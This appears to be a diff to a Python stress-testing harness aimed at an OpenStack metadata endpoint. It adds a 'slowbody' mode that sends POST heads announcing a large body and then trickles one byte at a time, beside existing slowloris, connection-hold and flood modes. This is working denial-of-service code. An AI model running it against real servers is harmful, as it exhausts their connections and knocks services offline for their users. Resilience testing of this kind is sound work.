@@ -9,6 +9,8 @@ opened and prints one JSON document on stdout:
                                     final CRLF, then nothing (connection exhaustion); one
                                     the server closes is opened again
     slowloris HOST N SECONDS GAP    the same, but one more header line every GAP seconds
+    slowbody HOST N SECONDS GAP     complete POST heads announcing 100 kB of body, then one
+                                    byte of it every GAP seconds
     flood HOST THREADS SECONDS [keepalive]
                                     back-to-back GETs, a new connection each (or one
                                     kept-alive connection per thread)
@@ -42,6 +44,11 @@ from typing import Any
 SYSTEM_PYTHON = "/usr/bin/python3"
 META_PATH = "/openstack/latest/meta_data.json"
 HEAD = b"GET / HTTP/1.1\r\nHost: x\r\n"  # no final CRLF: the server waits for more
+# A complete head announcing a body that never comes (but for a byte now and then).
+SLOW_POST = (
+    b"POST /openstack/latest/password HTTP/1.1\r\nHost: x\r\n"
+    b"Content-Type: text/plain\r\nContent-Length: 100000\r\n\r\n"
+)
 BOUND_S = 10.0  # the victim's patience for one request (curl -m 10)
 STOP = threading.Event()  # set by SIGTERM: finish now, report what was done
 
@@ -64,10 +71,17 @@ CONNECT_S = 5.0  # a SYN unanswered this long: the listen backlog is full
 REOPEN_PER_S = 250.0  # re-connects a second at most: pressure, not a connection flood
 
 
-def _hold(host: str, n: int, seconds: float, gap: float | None) -> dict[str, Any]:
-    """Keep n connections open for `seconds`, each with a request head sent (and one more
-    header line every `gap` s if given); a connection the server closes is opened again, so
-    timeouts alone do not relieve the pressure."""
+def _hold(
+    host: str,
+    n: int,
+    seconds: float,
+    gap: float | None,
+    head: bytes = HEAD,
+    trickle: bytes = b"X-a: b\r\n",
+) -> dict[str, Any]:
+    """Keep n connections open for `seconds`, each with `head` sent (and `trickle` every
+    `gap` s if given); a connection the server closes is opened again, so timeouts alone do
+    not relieve the pressure."""
     _raise_nofile(n)
     start = time.monotonic()
     sel = selectors.DefaultSelector()
@@ -106,7 +120,7 @@ def _hold(host: str, n: int, seconds: float, gap: float | None) -> dict[str, Any
                         continue
                     counts["connected"] += 1
                     with contextlib.suppress(OSError):  # a reset: the read below notices
-                        s.send(HEAD)
+                        s.send(head)
                     sel.modify(s, selectors.EVENT_READ)
                     continue
                 try:
@@ -136,7 +150,7 @@ def _hold(host: str, n: int, seconds: float, gap: float | None) -> dict[str, Any
                 for key in list(sel.get_map().values()):
                     if key.fileobj not in connecting:
                         with contextlib.suppress(OSError):  # a reset: the read notices
-                            key.fileobj.send(b"X-a: b\r\n")  # type: ignore[union-attr]
+                            key.fileobj.send(trickle)  # type: ignore[union-attr]
         return {
             "slots": n,
             **{k: counts[k] for k in ("opened", "connected", "connect_failed")},
@@ -272,6 +286,8 @@ def main(args: Sequence[str]) -> int:
         result = _hold(host, int(rest[0]), float(rest[1]), None)
     elif mode == "slowloris":
         result = _hold(host, int(rest[0]), float(rest[1]), float(rest[2]))
+    elif mode == "slowbody":
+        result = _hold(host, int(rest[0]), float(rest[1]), float(rest[2]), SLOW_POST, b"p")
     elif mode == "flood":
         result = _flood(host, int(rest[0]), float(rest[1]), rest[2:] == ["keepalive"])
     elif mode == "burn":
